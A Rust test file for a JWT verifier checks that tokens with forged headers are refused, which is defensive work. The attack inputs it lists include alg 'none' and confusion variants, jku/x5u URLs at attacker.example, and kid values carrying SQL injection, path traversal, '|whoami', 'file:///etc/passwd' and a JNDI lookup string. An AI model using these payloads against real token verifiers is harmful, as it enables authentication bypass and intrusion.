//! What a header may say, under a signature that is good.

use super::*;

fn is_read(keys: &TokenKeys, token: &str) -> bool {
    keys.verify("JWT", token, NOW).is_some()
}

#[test]
fn sec_068_the_header_chooses_no_algorithm() {
    let own = hs();
    let keys = TokenKeys::of(hs());
    for alg in [
        "none",
        "None",
        "NONE",
        "nONE",
        "noNe",
        "",
        " ",
        "hs256",
        "HS256 ",
        "Hs256",
        "HS384",
        "HS512",
        "HS1",
        "RS256",
        "RS384",
        "RS512",
        "PS256",
        "PS384",
        "PS512",
        "ES256",
        "ES384",
        "ES512",
        "ES256K",
        "EdDSA",
        "Ed25519",
        "A128KW",
        "dir",
        "RSA1_5",
        "HS256\\u0000",
    ] {
        let header = format!(r#"{{"alg":"{alg}","typ":"JWT"}}"#);
        let token = forge(&own, &header, CLAIMS);
        assert!(!is_read(&keys, &token), "{header}");
        let (input, _) = token.rsplit_once('.').unwrap();
        for signature in ["", ".", ".AA", ".bm9uZQ"] {
            assert!(!is_read(&keys, &format!("{input}{signature}")), "{header}");
        }
    }
    for header in [
        r#"{"typ":"JWT"}"#,
        r#"{"alg":null,"typ":"JWT"}"#,
        r#"{"alg":256,"typ":"JWT"}"#,
        r#"{"alg":true,"typ":"JWT"}"#,
        r#"{"alg":["HS256"],"typ":"JWT"}"#,
        r#"{"alg":{"HS256":1},"typ":"JWT"}"#,
        r#"{"ALG":"HS256","typ":"JWT"}"#,
        r#"{"alg":"HS256","alg":"HS256","typ":"JWT"}"#,
        r#"{"alg":"none","alg":"HS256","typ":"JWT"}"#,
        r#"{"alg":"HS256","\u0061lg":"none","typ":"JWT"}"#,
    ] {
        assert!(!is_read(&keys, &forge(&own, header, CLAIMS)), "{header}");
    }
}

#[test]
fn sec_069_the_type_is_the_one_that_is_asked_for() {
    let own = hs();
    let keys = TokenKeys::of(hs());
    for (typ, jwt, at_jwt) in [
        (r#""JWT""#, true, false),
        (r#""jwt""#, true, false), // a media type: RFC 7515 §4.1.9
        (r#""application/JWT""#, true, false),
        (r#""APPLICATION/jwt""#, true, false),
        (r#""at+jwt""#, false, true),
        (r#""AT+JWT""#, false, true),
        (r#""application/at+jwt""#, false, true), // RFC 9068 §4
        (r#""application/application/JWT""#, false, false),
        (r#""text/JWT""#, false, false),
        (r#""JWT ""#, false, false),
        (r#""JWT;x=1""#, false, false),
        (r#""JW""#, false, false),
        (r#""logout+jwt""#, false, false),
        (r#""JOSE""#, false, false),
        (r#""""#, false, false),
        ("null", false, false),
        ("1", false, false),
        (r#"["JWT"]"#, false, false),
    ] {
        let token = forge(&own, &format!(r#"{{"alg":"HS256","typ":{typ}}}"#), CLAIMS);
        assert_eq!(keys.verify("JWT", &token, NOW).is_some(), jwt, "{typ}");
        assert_eq!(
            keys.verify("at+jwt", &token, NOW).is_some(),
            at_jwt,
            "{typ}"
        );
    }
    let untyped = forge(&own, r#"{"alg":"HS256"}"#, CLAIMS);
    assert!(!is_read(&keys, &untyped));
    assert!(keys.verify("", &untyped, NOW).is_none());
}

#[test]
fn sec_072_a_token_cannot_bring_its_own_key_or_rules() {
    let own = hs();
    let keys = TokenKeys::of(hs());
    for member in [
        r#""crit":["exp"]"#,
        r#""crit":[]"#,
        r#""crit":null"#,
        r#""crit":["b64"],"b64":false"#,
        r#""crit":["http://example.com/UNDEFINED"],"http://example.com/UNDEFINED":true"#,
        r#""b64":true"#,
        r#""b64":false"#,
        r#""zip":"DEF""#,
        r#""jku":"https://attacker.example/jwks.json""#,
        r#""jku":"http://127.0.0.1/""#,
        r#""jwk":{"kty":"oct","k":"AAAA"}"#,
        r#""jwk":null"#,
        r#""x5u":"https://attacker.example/cert.pem""#,
        r#""x5c":["MIIB"]"#,
        r#""cty":"JWT""#,
        r#""\u0063rit":["exp"]"#,
        r#""j\u006bu":"https://attacker.example/""#,
    ] {
        for header in [
            format!(r#"{{"alg":"HS256","typ":"JWT",{member}}}"#),
            format!(r#"{{{member},"alg":"HS256","typ":"JWT"}}"#),
        ] {
            assert!(!is_read(&keys, &forge(&own, &header, CLAIMS)), "{header}");
        }
    }
}

#[test]
fn a_header_in_another_order_and_with_members_of_no_meaning_is_read() {
    let own = hs();
    let keys = TokenKeys::of(hs());
    for header in [
        r#"{"typ":"JWT","alg":"HS256"}"#,
        "{ \"typ\": \"JWT\",\r\n \"alg\": \"HS256\" }",
        r#"{"alg":"HS256","typ":"JWT","iss":"us"}"#,
        r#"{"alg":"HS256","typ":"JWT","x5t":"AAAA","deep":[{"a":[1]}]}"#,
        r#"{"\u0061lg":"HS\u0032\u0035\u0036","typ":"JWT"}"#,
    ] {
        assert!(is_read(&keys, &forge(&own, header, CLAIMS)), "{header}");
    }
    for header in [
        "",
        "null",
        "[]",
        r#"["HS256","JWT"]"#,
        "\"JWT\"",
        r#"{"alg":"HS256","typ":"JWT""#,
        r#"{"alg":"HS256","typ":"JWT"}}"#,
        r#"{"alg":"HS256","typ":"JWT"}{}"#,
        r#"{"alg":"HS256","typ":"JWT","typ":"JWT"}"#,
        r#"{"alg":"HS256","typ":"JWT","x":{"a":1,"a":2}}"#,
        r#"{"alg":"HS256","typ":"JWT","x":[[[[[[[[[[[[[[[[[[1]]]]]]]]]]]]]]]]]]}"#,
        "\u{feff}{\"alg\":\"HS256\",\"typ\":\"JWT\"}",
        "{\"alg\":\"HS256\",\"typ\":\"JWT\"}\0",
    ] {
        assert!(!is_read(&keys, &forge(&own, header, CLAIMS)), "{header:?}");
    }
}

#[test]
fn sec_072_a_kid_is_the_exact_name_of_a_key_in_memory() {
    let own = hs().kid("2026-11").unwrap();
    let keys = TokenKeys::of(hs().kid("2026-11").unwrap());
    let signed = |kid: &str| {
        let header = format!(r#"{{"alg":"HS256","typ":"JWT","kid":{kid}}}"#);
        forge(&own, &header, CLAIMS)
    };
    assert!(is_read(&keys, &signed(r#""2026-11""#)));
    let nameless = TokenKeys::of(hs());
    for kid in [
        r#""""#,
        r#""2026-1""#,
        r#""2026-111""#,
        r#""2026-11 ""#,
        r#"" 2026-11""#,
        r#""2026-11\u0000""#,
        r#""2026-11\n""#,
        r#""' OR '1'='1""#,
        r#""x' UNION SELECT 'key'--""#,
        r#""2026-11'; DROP TABLE auth_sessions; --""#,
        r#""../../../../dev/null""#,
        r#""/proc/sys/kernel/randomize_va_space""#,
        r#""C:\\Windows\\win.ini""#,
        r#""https://attacker.example/key""#,
        r#""file:///etc/passwd""#,
        r#""|whoami""#,
        r#""${jndi:ldap://attacker.example}""#,
        r#""%32026-11""#,
        r#""２026-11""#,
        "null",
        "0",
        "true",
        r#"["2026-11"]"#,
        r#"{"$ne":""}"#,
        r#""2026-11","kid":"2026-11""#,
    ] {
        assert!(!is_read(&keys, &signed(kid)), "{kid}");
        assert!(!is_read(&nameless, &signed(kid)), "{kid}");
    }
    // A key has a name, or it has none: neither stands in for the other.
    assert!(!is_read(&keys, &forge(&own, &header(&hs()), CLAIMS)));
    assert!(!is_read(&nameless, &signed(r#""2026-11""#)));
}

#[test]
fn sec_072_a_kid_has_at_most_64_visible_characters() {
    let (longest, longer) = ("k".repeat(64), "k".repeat(65));
    let named = hs().kid(longest.clone()).unwrap();
    let keys = TokenKeys::of(hs().kid(longest.clone()).unwrap());
    let signed = |kid: &str| {
        let header = format!(r#"{{"alg":"HS256","typ":"JWT","kid":"{kid}"}}"#);
        forge(&named, &header, CLAIMS)
    };
    assert!(is_read(&keys, &signed(&longest)) && !is_read(&keys, &signed(&longer)));
    assert!(
        Header::parse(
            &URL_SAFE_NO_PAD.encode(format!(r#"{{"alg":"x","kid":"{longer}"}}"#)),
            &OWN
        )
        .is_none()
    );
    for odd in ["", &longer, "two words", "tab\t", "новый", "nul\0"] {
        assert!(hs().kid(odd).is_err(), "{odd:?}");
    }
}

#[test]
fn sec_068_a_token_signed_with_another_secret_is_refused() {
    let keys = TokenKeys::of(hs());
    let own = hs();
    let other = SigningKeys::hs256(OTHER).unwrap();
    assert!(!is_read(&keys, &forge(&other, &header(&own), CLAIMS)));
    // Not even by keys of no length, or a block of zeros, or a prefix of ours.
    for bytes in [&b""[..], &[0; 64], &SECRET.as_bytes()[..31], b"secret"] {
        let token = forge(&own, &header(&own), CLAIMS);
        let (input, _) = token.rsplit_once('.').unwrap();
        let signature = HmacKey::of(bytes).unwrap().sign(input.as_bytes());
        let token = format!("{input}.{}", URL_SAFE_NO_PAD.encode(signature));
        assert!(!is_read(&keys, &token));
    }
    // Nor is a part of the right signature, or more than it, the right one.
    let token = forge(&own, &header(&own), CLAIMS);
    let (input, signature) = token.rsplit_once('.').unwrap();
    let whole = URL_SAFE_NO_PAD.decode(signature).unwrap();
    for length in 1..32 {
        let part = URL_SAFE_NO_PAD.encode(&whole[..length]);
        assert!(!is_read(&keys, &format!("{input}.{part}")), "{length}");
    }
    let more = URL_SAFE_NO_PAD.encode([&whole[..], &[0]].concat());
    assert!(!is_read(&keys, &format!("{input}.{more}")));
}
